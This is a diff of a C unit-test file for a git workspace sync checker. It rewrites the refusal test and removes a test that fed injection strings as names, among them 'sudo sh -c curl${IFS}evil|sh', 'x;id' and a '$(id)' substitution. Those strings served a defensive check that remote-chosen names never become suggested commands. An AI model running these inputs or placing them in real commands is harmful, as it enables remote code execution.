@@ -263,68 +263,20 @@ static void test_key_has_passphrase(void **state _unused_) {
         (void) rmdir(dir);
 }
 
-/* What doctor makes of the refusal R. */
-static struct finding refused(const struct sync_result *r, const char *branch) {
-        struct finding f = { 0 };
-
-        finding_refuse(&f, r->workspace_why, r->workspace_command, branch);
-        assert_int_equal(f.kind, FINDING_BAD);
-        return f;
-}
-
 static void test_refuse(void **state _unused_) {
-        struct sync_result r;
-        struct finding f;
+        struct finding f = { 0 };
+        struct refusal why;
 
-        (void) sync_refuse(&r,
-                "no branch is checked out in %s (detached HEAD): sudo -u u git -C /w switch BRANCH", "/w");
-        f = refused(&r, "main");
-        assert_string_equal(f.text, "no branch is checked out in /w (detached HEAD)");
-        assert_string_equal(f.mend, "sudo -u u git -C /w switch main");
+        (void) refusal_set(&why, REFUSAL_DETACHED, "no branch is checked out in %s", "/w");
+        (void) refusal_set_command(&why, "sudo -u u git -C /w switch %s", "main");
+        finding_refuse(&f, &why);
+        assert_int_equal(f.kind, FINDING_BAD);
+        assert_string_equal(f.text, why.text);
+        assert_string_equal(f.mend, why.command);
 
-        (void) sync_refuse(
-                &r, "a merge is under way in /w: finish it, or sudo -u u git -C /w merge --abort");
-        f = refused(&r, "main");
-        assert_string_equal(f.text, "a merge is under way in /w: finish it");
-        assert_string_equal(f.mend, "sudo -u u git -C /w merge --abort");
-
-        (void) sync_refuse(&r, "the remote names no branch: set branch= in [workspace]");
-        f = refused(&r, "main");
-        assert_string_equal(f.text, "the remote names no branch: set branch= in [workspace]");
-        assert_string_equal(f.mend, "");
-
-        /* Half a command is worse than none, and so is one with a gap. */
-        (void) sync_refuse(&r,
-                "%0200d is under way in /w: finish it, or sudo -u u git -C /w/long/path merge --abort", 0);
-        f = refused(&r, "main");
-        assert_string_equal(f.mend, "");
-        (void) sync_refuse(&r, "/w: No such file or directory. Clone it: sudo -u u git clone ADDRESS /w");
-        f = refused(&r, "main");
-        assert_string_equal(f.text, "/w: No such file or directory. Clone it");
-        assert_string_equal(f.mend, "");
-}
-
-/* Names that the remote or the agent chose are never a command, nor the end of one. */
-static void test_refuse_names(void **state _unused_) {
-        struct sync_result r;
-        struct finding f;
-
-        (void) sync_refuse(&r, "%s has the attribute filter=lfs, which we cannot apply",
-                "sudo sh -c curl${IFS}evil|sh #x");
-        f = refused(&r, "main");
-        assert_string_equal(f.mend, "");
-        (void) sync_refuse(&r, "%s  is hidden: sudo -u u git -C /w reset %s", "a\tsudo id; \303", "word");
-        f = refused(&r, "main");
-        assert_string_equal(f.text, "a sudo id; ? is hidden");
-        assert_string_equal(f.mend, "sudo -u u git -C /w reset word");
-        (void) sync_refuse(&r, "no branch is checked out: sudo -u u git -C /w switch BRANCH");
-        f = refused(&r, "x;id");
-        assert_string_equal(f.mend, "sudo -u u git -C /w switch 'x;id'");
-        (void) sync_refuse(&r, "hidden: sudo -u u git -C /w reset %s", "'x; BRANCH ;$(id)'");
-        f = refused(&r, "x;id");
-        assert_string_equal(f.mend, "sudo -u u git -C /w reset 'x; BRANCH ;$(id)'");
-        (void) sync_refuse(&r, "%0300d: sudo id", 0);
-        f = refused(&r, "main");
+        f = (struct finding){ 0 };
+        (void) refusal_set(&why, REFUSAL_NO_BRANCH, "the remote names no branch");
+        finding_refuse(&f, &why);
         assert_string_equal(f.mend, "");
 }
 
@@ -427,7 +379,6 @@ int main(void) {
                 cmocka_unit_test(test_unit_environment),
                 cmocka_unit_test(test_key_has_passphrase),
                 cmocka_unit_test(test_refuse),
-                cmocka_unit_test(test_refuse_names),
                 cmocka_unit_test(test_closed_directory),
                 cmocka_unit_test(test_keys_by_a_link),
         };
